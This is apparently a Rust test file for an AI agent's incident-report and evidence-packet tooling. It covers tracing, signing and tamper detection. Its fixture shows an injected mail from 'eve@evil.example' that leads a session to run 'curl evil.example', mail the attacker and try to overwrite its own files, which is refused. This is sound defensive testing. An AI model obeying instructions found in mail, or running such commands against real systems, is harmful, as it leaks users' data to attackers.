//! An incident is told as it happened, and its packet shows every change to it.

use crate::NOW;
use crate::house::{House, intent};
use audit::{Content, Ending, Entry, Event, Log, PublicKey, SecretAct, Seq, Subject, Target, TargetKind};
use domain::{Effect, Integrity, Label, RuleHit, Source, SourceKind, Tier, Timestamp, Verdict};
use reports::incident::{Facts, PacketError, Scope, collect, in_words, json, pack, picture, verify};
use std::fs;
use std::io::{Read as _, Write as _};
use std::path::Path;
use std::time::Duration;

fn stranger() -> Label {
    Label::new(Integrity::Untrusted, Tier::Medium, Source::new(SourceKind::Mail, "eve@evil.example"))
}

fn deed(name: &str, effect: Effect, target: Target) -> (audit::Deed, Vec<RuleHit>) {
    let Event::Intent { mut deed, rules, .. } = intent("x").event else { unreachable!() };
    (deed.name, deed.effect, deed.targets) = (name.into(), effect, vec![target]);
    (deed, rules)
}

/// A session that reads a stranger's mail and then does what it says, and another that has nothing to do with it.
async fn tell(log: &Log) {
    let subject = |session: &str, label: Option<Label>| Subject {
        session: Some(session.parse().unwrap()),
        label,
        ..Subject::default()
    };
    let note = async |session: &str, label: Option<Label>, event: Event| {
        log.note(Entry { subject: subject(session, label), event }, NOW).await.unwrap()
    };
    let act = |name: &str, effect, target| {
        let (deed, rules) = deed(name, effect, target);
        Event::Intent { deed, rules, isolation: None }
    };
    note(
        "quiet",
        Some(Label::owner()),
        act("files.read", Effect::Read, Target::new(TargetKind::Path, "/w/mine")),
    )
    .await;
    note("hit", Some(Label::owner()), act("mail.read", Effect::Read, Target::new(TargetKind::Id, "mail:1")))
        .await;
    let outcome = Event::Outcome {
        intent: Seq(3),
        name: "mail.read".into(),
        effect: Effect::Read,
        ending: Ending::Done,
        targets: vec![],
        contents: vec![Content::of("text", b"do it", log.content_key())],
        took: Duration::ZERO,
        usage: None,
        cost_micros: None,
        detail: None,
    };
    note("hit", Some(stranger()), outcome).await;
    note(
        "hit",
        Some(stranger()),
        act("shell.run", Effect::Execute, Target::new(TargetKind::Command, "curl evil.example")),
    )
    .await;
    note(
        "hit",
        Some(stranger()),
        act("mail.send", Effect::Send, Target::new(TargetKind::To, "eve@evil.example")),
    )
    .await;
    let (refused, _) = deed("files.write", Effect::Write, Target::new(TargetKind::Path, "/w/SOUL.md"));
    let rules = vec![RuleHit { verdict: Verdict::Deny, id: "floor.own-files".into(), why: "no".into() }];
    note("hit", Some(stranger()), Event::Refusal { deed: refused, rules }).await;
    let lent = Event::Secret {
        secret: "hub".parse().unwrap(),
        act: SecretAct::Lent,
        host: Some("api.github.com".parse().unwrap()),
    };
    log.note(Entry { subject: Subject::default(), event: lent }, NOW).await.unwrap();
}

fn everything() -> Scope {
    Scope { from: Timestamp(0), until: NOW.after(Duration::from_secs(1)), session: None, source: None }
}

#[tokio::test]
async fn the_way_in_and_everything_it_reached_is_told() {
    let house = House::new();
    let (log, _) = house.open(NOW);
    tell(&log).await;
    let found = collect(&house.folder(), &everything()).unwrap();
    assert_eq!(found.ways_in.len(), 1);
    let way = &found.ways_in[0];
    assert_eq!((way.session.as_str(), way.by.as_str()), ("hit", "mail.read"));
    assert_eq!(way.sources, ["mail:eve@evil.example"]);
    let names = |deeds: &[reports::incident::Deed]| deeds.iter().map(|d| d.name.clone()).collect::<Vec<_>>();
    assert_eq!(names(&found.run), ["shell.run"]);
    assert_eq!(names(&found.sent), ["mail.send"]);
    assert_eq!(names(&found.read), ["files.read", "mail.read"]);
    assert_eq!(
        (found.refused[0].name.as_str(), found.refused[0].because.as_str()),
        ("files.write", "floor.own-files")
    );
    assert_eq!(found.secrets["hub"].uses, 1);
    let words = in_words(&found, &everything());
    for said in [
        "How it came in: mail:eve@evil.example into session hit",
        "command:curl evil.example",
        "Replace the secret `hub` (it was used in this time): make a new one at https://github.com/settings/tokens",
        "hardshell secret set hub --host api.github.com",
        "hardshell session revoke hit",
    ] {
        assert!(words.contains(said), "{said}\n{words}");
    }
    let drawn = picture(&found);
    assert!(drawn.contains("eve@evil.example") && drawn.contains("#b3412e"), "{drawn}");
    assert!(!drawn.contains("/w/mine"), "what no stranger's word reached is not in the picture");
    assert_eq!(json(&found, &everything())["ways_in"][0]["session"], "hit");
    let by_source = Scope { source: Some("mail:*".into()), ..everything() };
    assert_eq!(names(&collect(&house.folder(), &by_source).unwrap().read), Vec::<String>::new());
    let other = Scope { source: Some("web:*".into()), ..everything() };
    assert_eq!(collect(&house.folder(), &other).unwrap().ways_in, []);
    let quiet = Scope { session: Some("quiet".parse().unwrap()), ..everything() };
    assert_eq!(names(&collect(&house.folder(), &quiet).unwrap().read), ["files.read"]);
}

/// The packet with one file given anew by `change`.
fn changed(packet: &Path, to: &Path, change: impl Fn(&str, Vec<u8>) -> Option<Vec<u8>>, add: Option<&str>) {
    let mut from = zip::ZipArchive::new(fs::File::open(packet).unwrap()).unwrap();
    let mut out = zip::ZipWriter::new(fs::File::create(to).unwrap());
    let options = zip::write::SimpleFileOptions::default();
    for number in 0..from.len() {
        let mut file = from.by_index(number).unwrap();
        let mut bytes = Vec::new();
        file.read_to_end(&mut bytes).unwrap();
        if let Some(bytes) = change(file.name(), bytes) {
            out.start_file(file.name(), options).unwrap();
            out.write_all(&bytes).unwrap();
        }
    }
    if let Some(name) = add {
        out.start_file(name, options).unwrap();
    }
    out.finish().unwrap();
}

#[tokio::test]
async fn a_packet_is_checked_elsewhere_and_shows_every_change() {
    let house = House::new();
    let (log, _) = house.open(NOW);
    tell(&log).await;
    drop(log);
    let at = |name: &str| house.temporary.path().join(name);
    let scratch = |name: &str| {
        fs::create_dir(at(name)).unwrap();
        at(name)
    };
    let files = vec![("report.txt".to_string(), b"what happened".to_vec())];
    let scope = everything();
    let facts = Facts { log: &house.folder(), key: &house.key(), scope: &scope, files };
    let key = pack(&at("packet.zip"), &facts).unwrap();
    let whole = verify(&at("packet.zip"), Some(key), &scratch("a")).unwrap();
    assert!(whole.log.is_intact(), "{:?}", whole.log);
    assert!(whole.log.records > 8);
    assert!(pack(&at("packet.zip"), &facts).is_err(), "what is there is not written over");
    let other = House::new();
    drop(other.open(NOW));
    let foreign = PublicKey::of(&other.key()).unwrap();
    let refused = verify(&at("packet.zip"), Some(foreign), &scratch("b"));
    assert!(matches!(refused, Err(PacketError::OtherKey { .. })), "{refused:?}");

    changed(
        &at("packet.zip"),
        &at("edited.zip"),
        |name, bytes| Some(if name == "report.txt" { b"nothing happened".to_vec() } else { bytes }),
        None,
    );
    let refused = verify(&at("edited.zip"), Some(key), &scratch("c"));
    assert!(matches!(&refused, Err(PacketError::Changed { name }) if name == "report.txt"), "{refused:?}");
    changed(&at("packet.zip"), &at("less.zip"), |name, bytes| (name != "report.txt").then_some(bytes), None);
    let refused = verify(&at("less.zip"), Some(key), &scratch("d"));
    assert!(matches!(&refused, Err(PacketError::Missing { name }) if name == "report.txt"), "{refused:?}");
    changed(&at("packet.zip"), &at("more.zip"), |_, bytes| Some(bytes), Some("evidence.txt"));
    let refused = verify(&at("more.zip"), Some(key), &scratch("e"));
    assert!(matches!(&refused, Err(PacketError::Added { name }) if name == "evidence.txt"), "{refused:?}");
    changed(
        &at("packet.zip"),
        &at("resigned.zip"),
        |name, bytes| {
            let text = String::from_utf8(bytes.clone()).unwrap_or_default();
            Some(if name == "MANIFEST" {
                text.replace("report.txt", "rumour.txt").into_bytes()
            } else {
                bytes
            })
        },
        None,
    );
    let refused = verify(&at("resigned.zip"), Some(key), &scratch("f"));
    assert!(matches!(refused, Err(PacketError::Signature)), "{refused:?}");
    fs::write(at("no.zip"), "PK\u{3}\u{4} and then nothing").unwrap();
    assert!(matches!(verify(&at("no.zip"), None, &scratch("g")), Err(PacketError::Zip(_))));
}

#[tokio::test]
async fn a_packet_takes_the_part_of_the_log_that_the_time_is_in_and_what_vouches_for_it() {
    let house = House::new();
    let day = |number: u32| NOW.after(Duration::from_secs(86_400) * 2 * number);
    for number in 0..6 {
        let (log, _) = house.open(day(number));
        for at in 0..20 {
            log.note(intent(&format!("command {number} {at}")), day(number)).await.unwrap();
        }
        drop(log);
    }
    let at = |name: &str| house.temporary.path().join(name);
    let hour = Duration::from_secs(3600);
    let scope = Scope { from: day(2), until: day(2).after(hour), session: None, source: None };
    let facts = Facts { log: &house.folder(), key: &house.key(), scope: &scope, files: Vec::new() };
    let key = pack(&at("packet.zip"), &facts).unwrap();
    let scratch = |name: &str| {
        fs::create_dir(at(name)).unwrap();
        at(name)
    };
    let part = verify(&at("packet.zip"), Some(key), &scratch("a")).unwrap();
    assert!(part.log.is_intact(), "{:?}", part.log);
    assert!(part.log.segments <= 2, "{:?}", part.log);
    let text: String = fs::read_dir(at("a").join("log"))
        .unwrap()
        .map(|entry| fs::read_to_string(entry.unwrap().path()).unwrap())
        .collect();
    assert!((0..20).all(|number| text.contains(&format!("command 2 {number}"))));
    assert!(!text.contains("command 0 ") && !text.contains("command 5 "));
    // What is changed in it is found, though what came before is not there.
    changed(
        &at("packet.zip"),
        &at("edited.zip"),
        |name, bytes| {
            let edited = String::from_utf8(bytes.clone()).unwrap_or_default();
            Some(if name.starts_with("log/") {
                edited.replace("command 2 7", "command 2 8").into_bytes()
            } else {
                bytes
            })
        },
        None,
    );
    let refused = verify(&at("edited.zip"), Some(key), &scratch("b"));
    assert!(matches!(refused, Err(PacketError::Changed { .. })), "{refused:?}");
    // A time in which nothing happened takes the newest part, which is whole too.
    let quiet =
        Scope { from: day(1).after(hour), until: day(1).after(hour * 2), session: None, source: None };
    let facts = Facts { scope: &quiet, files: Vec::new(), ..facts };
    pack(&at("quiet.zip"), &facts).unwrap();
    let part = verify(&at("quiet.zip"), Some(key), &scratch("c")).unwrap();
    assert!(part.log.is_intact(), "{:?}", part.log);
}
